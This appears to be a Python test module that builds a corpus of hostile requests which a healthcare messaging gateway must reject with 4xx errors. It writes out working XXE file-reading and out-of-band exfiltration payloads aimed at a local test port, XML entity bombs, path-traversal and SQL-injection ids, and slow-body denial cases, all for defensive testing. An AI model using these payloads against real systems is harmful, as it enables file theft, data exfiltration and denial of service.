"""The hostile-input corpus: over 200 requests that must each be refused with a 4xx problem.

Generated in code from the official examples (read from ``../shared/reference`` at collection
time) so that nothing of the standard is copied into the project. Every case is one request from
a registered provider (AGB 65656055) or municipality; none may be accepted, none may make the
gateway answer 5xx, fall over, or grow without bound.
"""

from __future__ import annotations

import copy
import json
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.conftest import REFERENCE
from tests.fixtures.gateway import PULL_URL, PUSH_URL, STATUS_URL
from tests.hostile.rawhttp import Request

RAW = "/v1/messages"
PROVIDER = "aanbieder-65656055"
AMSTERDAM = "gemeente-0363"
OTHER_PROVIDER = "aanbieder-42420001"
MB = 1024 * 1024
LIMIT = 25 * MB
XML = ("Content-Type", "application/xml")
SLOW_PAUSE = 0.4


@dataclass(frozen=True)
class Case:
    """One hostile request, and who sends it."""

    name: str
    request: Request
    participant: str = PROVIDER
    statuses: frozenset[int] = field(default_factory=lambda: frozenset(range(400, 500)))


def example(name: str) -> bytes:
    standard = "iwmo-3.2" if name.startswith("WMO") else "ijw-3.2"
    return (REFERENCE / standard / "examples" / f"{name}.xml").read_bytes()


def raw(name: str, body: bytes, *headers: tuple[str, str], **request: Any) -> Case:
    """A raw POST; with no headers given, as application/xml."""
    return Case(name, Request("POST", RAW, headers or (XML,), body, **request))


def raw_xml(name: str, body: bytes) -> Case:
    return Case(name, Request("POST", RAW, (XML,), body))


# -- metadata and multipart ---------------------------------------------------------------------


def metadata() -> dict[str, Any]:
    """Push metadata that agrees with the WMO305 example."""
    return {
        "routeringgegevens": {
            "afzender": {"rol": "Instelling", "code": "65656055"},
            "geadresseerden": [{"rol": "Gemeente", "code": "0363"}],
            "berichtstroom": {
                "berichttype": "WMO305",
                "berichtversie": 3,
                "berichtsubversie": 2,
                "actie": "Indienen",
            },
        },
        "referentiegegevens": {"conversatieId": str(uuid.uuid4()), "traceerId": str(uuid.uuid4())},
    }


BOUNDARY = "hostile-boundary-7d3f"


def part(name: str | None, body: bytes, content_type: str = "application/octet-stream") -> bytes:
    disposition = "form-data" + (f'; name="{name}"' if name is not None else "")
    if name == "payload":
        disposition += '; filename="bericht.xml"'
    return (
        f"Content-Disposition: {disposition}\r\nContent-Type: {content_type}\r\n\r\n".encode()
        + body
    )


def multipart(*parts: bytes, boundary: str = BOUNDARY, close: bool = True) -> bytes:
    out = b"".join(b"--" + boundary.encode() + b"\r\n" + p + b"\r\n" for p in parts)
    return out + (b"--" + boundary.encode() + b"--\r\n" if close else b"")


def push(name: str, body: bytes, content_type: str | None = None, **request: Any) -> Case:
    headers = (("Content-Type", content_type or f"multipart/form-data; boundary={BOUNDARY}"),)
    return Case(name, Request("POST", PUSH_URL, headers, body, **request))


def push_with(name: str, meta: object, payload: bytes | None = None) -> Case:
    meta_bytes = meta if isinstance(meta, bytes) else json.dumps(meta).encode()
    return push(
        name,
        multipart(
            part("berichtMetadata", meta_bytes, "application/json"),
            part("payload", example("WMO305") if payload is None else payload),
        ),
    )


def altered(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
    meta = copy.deepcopy(metadata())
    change(meta)
    return meta


# -- the cases ------------------------------------------------------------------------------------


def malformed_xml() -> Iterator[Case]:
    wmo305 = example("WMO305")
    for fraction in (0.05, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.95, 0.99):
        yield raw_xml(f"truncated at {fraction:.0%}", wmo305[: int(len(wmo305) * fraction)])
    plain = [
        ("empty body", b""),
        ("whitespace only", b"   \n\t  "),
        ("prolog only", b'<?xml version="1.0" encoding="UTF-8"?>'),
        ("not XML at all", b"hello, switchpoint"),
        ("JSON instead of XML", b'{"Bericht": {}}'),
        ("unclosed root", b"<Bericht>"),
        ("mismatched tags", b"<a><b></a></b>"),
        ("two roots", b"<a/><b/>"),
        ("text before the root", b"junk<a/>"),
        ("text after the root", b"<a/>junk"),
        ("NUL byte", b"<a>\x00</a>"),
        ("control character", b"<a>\x01\x02</a>"),
        ("undefined entity", b"<a>&undefined;</a>"),
        ("bare ampersand", b"<a>fish & chips</a>"),
        ("less-than in attribute", b'<a b="<"/>'),
        ("unquoted attribute", b"<a b=c/>"),
        ("duplicate attribute", b'<a b="1" b="2"/>'),
        ("undeclared prefix", b"<x:a/>"),
        ("unterminated CDATA", b"<a><![CDATA[never ends</a>"),
        ("unterminated comment", b"<a><!-- never ends</a>"),
        ("double hyphen in comment", b"<a><!-- a -- b --></a>"),
        ("XML declaration not first", b' <?xml version="1.0"?><a/>'),
        ("XML declaration twice", b'<?xml version="1.0"?><?xml version="1.0"?><a/>'),
        ("XML version 9", b'<?xml version="9.0"?><a/>'),
        ("reserved PI target", b"<a><?xml foo?></a>"),
        ("bad character reference", b"<a>&#0;</a>"),
        ("huge character reference", b"<a>&#x110000;</a>"),
        ("element name starting with a digit", b"<1a/>"),
        ("colon-only name", b"<:/>"),
        ("binary garbage", bytes(range(256)) * 4),
        ("gzip bytes", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"),
        ("root closed twice", b"<a></a></a>"),
        ("attribute without value", b"<a b/>"),
        ("namespace undeclaring a prefix (1.0)", b'<a xmlns:p="urn:x"><b xmlns:p=""/></a>'),
    ]
    for name, body in plain:
        yield raw_xml(name, body)
    yield raw_xml("305 with its closing tag removed", wmo305.replace(b"</wmo305:Bericht>", b""))
    yield raw_xml(
        "305 with a tag misspelt", wmo305.replace(b"</wmo305:Header>", b"</wmo305:Heder>", 1)
    )


def entity_attacks() -> Iterator[Case]:
    attacks = {
        "XXE file /etc/passwd": b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
        "XXE file /proc/self/environ": (
            b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///proc/self/environ">]><a>&e;</a>'
        ),
        "XXE relative file": b'<!DOCTYPE a [<!ENTITY e SYSTEM "pyproject.toml">]><a>&e;</a>',
        "XXE php filter": b'<!DOCTYPE a [<!ENTITY e SYSTEM "php://filter/resource=/etc/passwd">]><a>&e;</a>',
        "XXE in an attribute": b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hosts">]><a b="&e;"/>',
        "parameter entity, file": (
            b'<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><a/>'
        ),
        "external DTD by file": b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        "internal DTD only": b"<!DOCTYPE a [<!ELEMENT a ANY>]><a/>",
        "internal entity, harmless": b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>',
        "default attribute from DTD": b'<!DOCTYPE a [<!ATTLIST a b CDATA "injected">]><a/>',
        "XInclude of /etc/passwd": (
            b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
            b'<xi:include href="file:///etc/passwd" parse="text"/></a>'
        ),
    }
    for name, body in attacks.items():
        yield raw_xml(name, body)
    yield from network_references()


def network_references(origin: str = "127.0.0.1:9") -> Iterator[Case]:
    """Every way a document can name something on the network, at ``origin`` (host:port).

    In the corpus the port is 9 (discard, closed); ``test_network_is_never_fetched`` points them
    at a listener of its own that counts connections.
    """
    o = origin.encode()
    attacks = {
        "XXE network http": b'<!DOCTYPE a [<!ENTITY e SYSTEM "http://%s/x">]><a>&e;</a>' % o,
        "XXE network https": b'<!DOCTYPE a [<!ENTITY e SYSTEM "https://%s/">]><a>&e;</a>' % o,
        "XXE network ftp": b'<!DOCTYPE a [<!ENTITY e SYSTEM "ftp://%s/x">]><a>&e;</a>' % o,
        "XXE public id": (
            b'<!DOCTYPE a [<!ENTITY e PUBLIC "-//X//Y" "http://%s/y">]><a>&e;</a>' % o
        ),
        "parameter entity, network": (
            b'<!DOCTYPE a [<!ENTITY %% p SYSTEM "http://%s/evil.dtd"> %%p;]><a/>' % o
        ),
        "out-of-band exfiltration": (
            b'<!DOCTYPE a [<!ENTITY %% f SYSTEM "file:///etc/hostname">'
            b"<!ENTITY %% d \"<!ENTITY &#x25; x SYSTEM 'http://%s/?%%f;'>\"> %%d; %%x;]><a/>" % o
        ),
        "external DTD by SYSTEM": b'<!DOCTYPE a SYSTEM "http://%s/a.dtd"><a/>' % o,
        "external DTD by PUBLIC": (
            b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
            b'"http://%s/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>' % o
        ),
        "unparsed entity NDATA": (
            b'<!DOCTYPE a [<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "http://%s/" '
            b"NDATA n>]><a/>" % o
        ),
        "XInclude over the network": (
            b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://%s/"/></a>' % o
        ),
        "xsi:schemaLocation to the network": (
            b'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            b'xsi:schemaLocation="urn:x http://%s/evil.xsd"/>' % o
        ),
        "XSLT stylesheet PI": b'<?xml-stylesheet type="text/xsl" href="http://%s/x.xsl"?><a/>' % o,
        "DOCTYPE after the 305 prolog": example("WMO305").replace(
            b"?>", b'?><!DOCTYPE wmo305:Bericht SYSTEM "http://%s/x.dtd">' % o, 1
        ),
        "XInclude inside the 305": example("WMO305").replace(
            b"</wmo305:Header>",
            b'</wmo305:Header><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            b'href="http://%s/client.xml"/>' % o,
            1,
        ),
    }
    for name, body in attacks.items():
        yield raw_xml(name, body)


def bombs() -> Iterator[Case]:
    laughs = b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    previous = "lol"
    for n in range(1, 10):
        laughs += f'<!ENTITY lol{n} "{("&" + previous + ";") * 10}">'.encode()
        previous = f"lol{n}"
    laughs += b"]><lolz>&lol9;</lolz>"
    yield raw_xml("billion laughs", laughs)
    yield raw_xml(
        "quadratic blowup",
        b'<!DOCTYPE a [<!ENTITY e "' + b"x" * 50_000 + b'">]><a>' + b"&e;" * 10_000 + b"</a>",
    )
    yield raw_xml(
        "recursive entity", b'<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>'
    )
    for depth in (1_000, 10_000, 100_000):
        yield raw_xml(f"nesting {depth} deep", b"<a>" * depth + b"</a>" * depth)
    yield raw_xml("nesting 200000 deep, never closed", b"<a>" * 200_000)
    yield raw_xml(
        "100000 attributes", b"<a " + b" ".join(b'a%d="1"' % i for i in range(100_000)) + b"/>"
    )
    yield raw_xml("a 1 MB element name", b"<" + b"a" * MB + b"/>")
    yield raw_xml("a 5 MB attribute value", b'<a b="' + b"x" * (5 * MB) + b'"/>')
    yield raw_xml("a million empty siblings", b"<a>" + b"<b/>" * 1_000_000 + b"</a>")
    yield raw_xml(
        "50000 namespace declarations",
        b"<a " + b" ".join(b'xmlns:n%d="u"' % i for i in range(50_000)) + b"/>",
    )


def sizes() -> Iterator[Case]:
    over = b"<a>" + b"x" * (LIMIT + 1 - 7) + b"</a>"
    assert len(over) == LIMIT + 1
    yield raw_xml("raw body of 25 MB plus one byte", over)
    yield push_with("push payload of 25 MB plus one byte", metadata(), over)
    yield raw(
        "Content-Length announcing 25 MB plus one byte",
        b"<a/>",
        XML,
        content_length=LIMIT + 1,
    )
    yield push_with("push metadata of 2 MB", b'{"x":"' + b"y" * (2 * MB) + b'"}')


def slow() -> Iterator[Case]:
    # Trickled over a few seconds: the gateway must answer them like any other, not hang.
    wmo305 = example("WMO305")
    yield raw(
        "slow raw body, malformed at the end",
        wmo305[:-20],
        XML,
        pieces=8,
        pause=SLOW_PAUSE,
    )
    yield push(
        "slow multipart, a part missing",
        multipart(part("berichtMetadata", json.dumps(metadata()).encode(), "application/json")),
        pieces=8,
        pause=SLOW_PAUSE,
    )
    # Announced but never sent: the gateway must give up on the body, not wait for ever.
    yield raw("body announced, never sent", b"", XML, content_length=1000)
    yield raw("half the body, then silence", wmo305[:100], XML, content_length=len(wmo305))


def content_types() -> Iterator[Case]:
    wmo305 = example("WMO305")
    for content_type in (
        "text/plain",
        "application/json",
        "application/octet-stream",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "image/png",
        "xml",
        "application/xml+evil",
        "*/*",
        "",
    ):
        headers = (("Content-Type", content_type),) if content_type else ()
        yield Case(
            f"raw 305 as {content_type or 'no content type'}",
            Request("POST", RAW, headers, wmo305),
        )
    yield Case("raw 305 without Content-Type", Request("POST", RAW, (), wmo305))
    for content_type in ("application/xml", "application/json", "text/plain", ""):
        headers = (("Content-Type", content_type),) if content_type else ()
        body = multipart(part("payload", wmo305))
        yield Case(
            f"push as {content_type or 'no content type'}",
            Request("POST", PUSH_URL, headers, body),
        )
    yield push(
        "push multipart/mixed",
        multipart(part("payload", wmo305)),
        "multipart/mixed; boundary=" + BOUNDARY,
    )


def encodings() -> Iterator[Case]:
    wmo305 = example("WMO305")
    yield raw_xml("UTF-8 BOM before the 305", b"\xef\xbb\xbf" + wmo305)
    yield raw_xml("UTF-16 LE with BOM", b"\xff\xfe" + wmo305.decode().encode("utf-16-le"))
    yield raw_xml("UTF-16 BE with BOM", b"\xfe\xff" + wmo305.decode().encode("utf-16-be"))
    yield raw_xml("UTF-32 with BOM", wmo305.decode().encode("utf-32"))
    yield raw_xml("UTF-16 without BOM", wmo305.decode().encode("utf-16-le"))
    invalid = {
        "lone continuation byte": b"\x80",
        "overlong slash": b"\xc0\xaf",
        "overlong NUL": b"\xc0\x80",
        "truncated sequence": b"\xe2\x82",
        "surrogate half": b"\xed\xa0\x80",
        "beyond U+10FFFF": b"\xf4\x90\x80\x80",
        "0xFF byte": b"\xff",
        "Latin-1 e-acute": b"\xe9",
    }
    for name, bad in invalid.items():
        yield raw_xml(
            f"invalid UTF-8 ({name}) in a name",
            wmo305.replace(b"<iwmo:Achternaam>Wit", b"<iwmo:Achternaam>W" + bad, 1),
        )
    yield raw_xml(
        "declared ISO-8859-1 with Latin-1 bytes",
        wmo305.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"').replace(b"Wit", b"W\xe9t"),
    )
    yield raw_xml(
        "declared UTF-16 but UTF-8", wmo305.replace(b'encoding="UTF-8"', b'encoding="UTF-16"')
    )
    yield raw_xml(
        "declared EBCDIC", wmo305.replace(b'encoding="UTF-8"', b'encoding="EBCDIC-CP-US"')
    )
    yield raw_xml("unknown encoding", wmo305.replace(b'encoding="UTF-8"', b'encoding="klingon"'))
    yield push_with("push payload with BOM", metadata(), b"\xef\xbb\xbf" + wmo305)
    yield push_with("push metadata not UTF-8", b'{"a":"\xff"}')
    yield push_with("push metadata with BOM", b"\xef\xbb\xbf" + json.dumps(metadata()).encode())


def multiparts() -> Iterator[Case]:
    wmo305 = example("WMO305")
    meta = json.dumps(metadata()).encode()
    good_meta = part("berichtMetadata", meta, "application/json")
    good_payload = part("payload", wmo305)
    shapes = {
        "no parts": multipart(),
        "payload only": multipart(good_payload),
        "metadata only": multipart(good_meta),
        "metadata twice": multipart(good_meta, good_meta, good_payload),
        "payload twice": multipart(good_meta, good_payload, good_payload),
        "an extra part": multipart(good_meta, good_payload, part("extra", b"x")),
        "a part without a name": multipart(good_meta, good_payload, part(None, b"x")),
        "parts under other names": multipart(part("metadata", meta), part("bericht", wmo305)),
        "names in another case": multipart(part("BERICHTMETADATA", meta), part("Payload", wmo305)),
        "unterminated multipart": multipart(good_meta, good_payload, close=False),
        "wrong boundary in the body": multipart(good_meta, good_payload, boundary="other"),
        "empty body": b"",
        "garbage body": b"this is not multipart at all",
        "parts without headers": b"--"
        + BOUNDARY.encode()
        + b"\r\n\r\nx\r\n--"
        + BOUNDARY.encode()
        + b"--\r\n",
        "empty payload part": multipart(good_meta, part("payload", b"")),
        "empty metadata part": multipart(part("berichtMetadata", b""), good_payload),
        "nested multipart": multipart(
            good_meta,
            part(
                "payload",
                multipart(good_payload, boundary="inner"),
                "multipart/mixed; boundary=inner",
            ),
        ),
        "1000 extra parts": multipart(
            good_meta, good_payload, *(part(f"p{i}", b"x") for i in range(1000))
        ),
    }
    for name, body in shapes.items():
        yield push(f"multipart: {name}", body)
    yield push(
        "multipart without boundary", multipart(good_meta, good_payload), "multipart/form-data"
    )
    yield push(
        "multipart with an empty boundary",
        multipart(good_meta, good_payload),
        "multipart/form-data; boundary=",
    )
    yield push(
        "multipart with a 200-character boundary",
        multipart(good_meta, good_payload, boundary="b" * 200),
        "multipart/form-data; boundary=" + "b" * 200,
    )


def contradicting_metadata() -> Iterator[Case]:
    def set_path(path: str, value: object) -> Callable[[dict[str, Any]], object]:
        def change(meta: dict[str, Any]) -> None:
            *parents, last = path.split(".")
            target: Any = meta
            for name in parents:
                target = target[int(name)] if name.isdigit() else target[name]
            if value is _DELETE:
                del target[last]
            else:
                target[last] = value

        return change

    r, s, ref = "routeringgegevens", "routeringgegevens.berichtstroom", "referentiegegevens"
    changes: dict[str, tuple[str, object]] = {
        "berichttype WMO301 for a 305": (f"{s}.berichttype", "WMO301"),
        "berichttype JW305 for a WMO305": (f"{s}.berichttype", "JW305"),
        "berichttype unknown": (f"{s}.berichttype", "WMO999"),
        "berichttype empty": (f"{s}.berichttype", ""),
        "berichttype a number": (f"{s}.berichttype", 305),
        "berichtversie 2": (f"{s}.berichtversie", 2),
        "berichtversie negative": (f"{s}.berichtversie", -1),
        "berichtversie a string": (f"{s}.berichtversie", "3"),
        "berichtversie huge": (f"{s}.berichtversie", 10**30),
        "berichtsubversie 1": (f"{s}.berichtsubversie", 1),
        "berichtsubversie true": (f"{s}.berichtsubversie", True),
        "berichtstroom missing": (s, _DELETE),
        "afzender another provider": (f"{r}.afzender.code", "42420001"),
        "afzender a municipality": (f"{r}.afzender", {"rol": "Gemeente", "code": "0363"}),
        "afzender rol unknown": (f"{r}.afzender.rol", "Koning"),
        "afzender missing": (f"{r}.afzender", _DELETE),
        "geadresseerde another municipality": (
            f"{r}.geadresseerden",
            [{"rol": "Gemeente", "code": "0637"}],
        ),
        "geadresseerde a provider": (
            f"{r}.geadresseerden",
            [{"rol": "Instelling", "code": "42420001"}],
        ),
        "geadresseerden twice": (
            f"{r}.geadresseerden",
            [{"rol": "Gemeente", "code": "0363"}, {"rol": "Gemeente", "code": "0637"}],
        ),
        "geadresseerden 101": (f"{r}.geadresseerden", [{"rol": "Gemeente", "code": "0363"}] * 101),
        "geadresseerden not a list": (f"{r}.geadresseerden", {"rol": "Gemeente", "code": "0363"}),
        "geadresseerde code unknown": (
            f"{r}.geadresseerden",
            [{"rol": "Gemeente", "code": "9999"}],
        ),
        "traceerId not a UUID": (f"{ref}.traceerId", "not-a-uuid"),
        "traceerId empty": (f"{ref}.traceerId", ""),
        "traceerId with braces": (f"{ref}.traceerId", "{" + str(uuid.uuid4()) + "}"),
        "traceerId 32 hex digits": (f"{ref}.traceerId", uuid.uuid4().hex),
        "traceerId a number": (f"{ref}.traceerId", 42),
        "traceerId missing": (f"{ref}.traceerId", _DELETE),
        "conversatieId not a UUID": (f"{ref}.conversatieId", "conv"),
        "alsAntwoordOp not a UUID": (f"{ref}.alsAntwoordOp", "../../etc"),
        "referentiegegevens missing": (ref, _DELETE),
        "routeringgegevens missing": (r, _DELETE),
        "an unknown member": ("extra", {"x": 1}),
        "an unknown routing member": (f"{r}.prioriteit", "hoog"),
        "a 10000-character rol": (f"{r}.afzender.rol", "x" * 10_000),
    }
    for name, (path, value) in changes.items():
        yield push_with(f"metadata: {name}", altered(set_path(path, value)))
    for name, body in {
        "not JSON": b"{routeringgegevens:",
        "JSON null": b"null",
        "JSON list": b"[]",
        "JSON string": b'"x"',
        "JSON nested 100000 deep": b"[" * 100_000 + b"]" * 100_000,
        "JSON with NaN": json.dumps({"a": float("nan")}).encode(),
        "JSON duplicate keys": b'{"routeringgegevens": {}, "routeringgegevens": {}}',
    }.items():
        yield push_with(f"metadata: {name}", body)


_DELETE = object()


def valid_xml_wrong_message() -> Iterator[Case]:
    wmo305 = example("WMO305")
    yield raw_xml(
        "305 from another provider's Afzender", wmo305.replace(b"65656055", b"42420001", 1)
    )
    yield raw_xml(
        "305 to an unregistered municipality",
        wmo305.replace(b"<wmo305:Ontvanger>0363", b"<wmo305:Ontvanger>9999", 1),
    )
    yield raw_xml(
        "305 with BerichtCode 999",
        wmo305.replace(b"<wmo305:BerichtCode>418", b"<wmo305:BerichtCode>999", 1),
    )
    yield raw_xml("305 with an empty Identificatie", wmo305.replace(b">123456789013<", b"><", 1))
    yield raw_xml(
        "305 with a 13-character Identificatie",
        wmo305.replace(b">123456789013<", b">1234567890134<", 1),
    )
    yield raw_xml(
        "305 with Dagtekening 2025-02-30", wmo305.replace(b"2025-04-05", b"2025-02-30", 1)
    )
    yield raw_xml("305 without a Header", _without(wmo305, b"wmo305:Header"))
    yield raw_xml("305 without a Client", _without(wmo305, b"wmo305:Client"))
    yield raw_xml("305 in an unknown namespace", wmo305.replace(b"wmo305/schema", b"wmo999/schema"))
    yield raw_xml("305 in the 2.1 namespace", wmo305.replace(b"iwmo/3_2/", b"iwmo/2_1/"))
    yield raw_xml(
        "an XSD instead of a message", b'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"/>'
    )
    yield raw_xml(
        "a SOAP envelope around the 305",
        b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
        + wmo305.split(b"?>", 1)[1]
        + b"</s:Body></s:Envelope>",
    )
    # Messages a provider must not send, from the official examples of the other side.
    for name in ("WMO301", "WMO319", "WMO325", "JW301", "JW319"):
        yield raw_xml(f"official {name} from the wrong participant", example(name))
    for name in ("WMO305", "WMO307", "WMO317"):
        yield Case(
            f"official {name} of 65656055 from 42420001's certificate",
            Request("POST", RAW, (XML,), example(name)),
            participant=OTHER_PROVIDER,
        )
    yield Case(
        "the official 305 from a municipality's certificate",
        Request("POST", RAW, (XML,), wmo305),
        participant=AMSTERDAM,
    )
    yield Case(
        "a retour 306 from the provider it would answer",
        Request("POST", RAW, (XML,), example("WMO306")),
    )


def _is_uuid_like(text: str) -> bool:
    # A well-formed UUID that is not the caller's is "200, empty list" for the status API, the
    # VSP's answer; the isolation tests pin that. Only malformed ones belong in this corpus.
    try:
        uuid.UUID(text)
    except ValueError:
        return False
    return True


def _without(document: bytes, tag: bytes) -> bytes:
    start = document.index(b"<" + tag)
    end = document.index(b"</" + tag + b">") + len(tag) + 3
    return document[:start] + document[end:]


def odd_paths() -> Iterator[Case]:
    someone_elses = str(uuid.uuid4())
    ids = [
        "not-a-uuid",
        "..",
        "..%2F..%2Fetc%2Fpasswd",
        "%00",
        "%2e%2e",
        someone_elses,
        someone_elses.upper(),
        "{" + someone_elses + "}",
        someone_elses.replace("-", ""),
        "x" * 5000,
        "%F0%9F%92%A5",
        "%C0%AF",
        "'%20OR%201=1--",
        "1;DROP%20TABLE%20messages",
        "%25",
        "00000000-0000-0000-0000-000000000000",
    ]
    for n, odd in enumerate(ids):
        yield Case(
            f"payload of odd id #{n} ({odd[:20]})", Request("GET", f"{PULL_URL}/{odd}/payload")
        )
        yield Case(f"confirm of odd id #{n} ({odd[:20]})", Request("DELETE", f"{PULL_URL}/{odd}"))
    for n, odd in enumerate(i for i in ids if not _is_uuid_like(i)):
        yield Case(f"status of odd traceerId #{n}", Request("GET", f"{STATUS_URL}?traceerId={odd}"))
    yield Case(
        "status with both ids",
        Request("GET", f"{STATUS_URL}?traceerId={someone_elses}&conversatieId={someone_elses}"),
    )
    yield Case("status with neither id", Request("GET", STATUS_URL))
    for limit in ("0", "251", "-1", "1e3", "abc", "99999999999999999999"):
        yield Case(f"pull with limit={limit}", Request("GET", f"{PULL_URL}?limit={limit}"))
    for name, body in {
        "not JSON": b"{",
        "no zoekpadType": b"{}",
        "unknown zoekpadType": b'{"zoekpadType": "ZoekpadOpAlles"}',
        "conversatieId not a UUID": (
            b'{"zoekpadType": "ZoekpadOpConversatieId", "conversatieId": "x"}'
        ),
        "extra member": b'{"zoekpadType": "ZoekpadOpAlsAntwoordOp", "alsAntwoordOp": "%s", "x": 1}'
        % someone_elses.encode(),
        "berichttype empty": b'{"zoekpadType": "ZoekpadOpBerichtstroom", "berichttype": ""}',
        "JSON nested 100000 deep": b"[" * 100_000 + b"]" * 100_000,
    }.items():
        yield Case(
            f"zoeken: {name}",
            Request("POST", f"{PULL_URL}/zoeken", (("Content-Type", "application/json"),), body),
        )
    for method, path in [
        ("GET", RAW),
        ("PUT", RAW),
        ("GET", PUSH_URL),
        ("DELETE", PUSH_URL),
        ("PATCH", f"{PULL_URL}/{someone_elses}"),
        ("GET", "/"),
        ("GET", "/admin"),
        ("GET", "/metrics"),
        ("GET", "/../../etc/passwd"),
        ("GET", "/berichtenservice/berichten/rest-pull/v2/berichten"),
    ]:
        yield Case(f"{method} {path}", Request(method, path))


def corpus() -> list[Case]:
    cases = [
        *malformed_xml(),
        *entity_attacks(),
        *bombs(),
        *sizes(),
        *slow(),
        *content_types(),
        *encodings(),
        *multiparts(),
        *contradicting_metadata(),
        *valid_xml_wrong_message(),
        *odd_paths(),
    ]
    names = [case.name for case in cases]
    duplicates = {name for name in names if names.count(name) > 1}
    assert not duplicates, f"corpus case names must be unique: {duplicates}"
    return cases


def reference_available() -> bool:
    return Path(REFERENCE).is_dir()
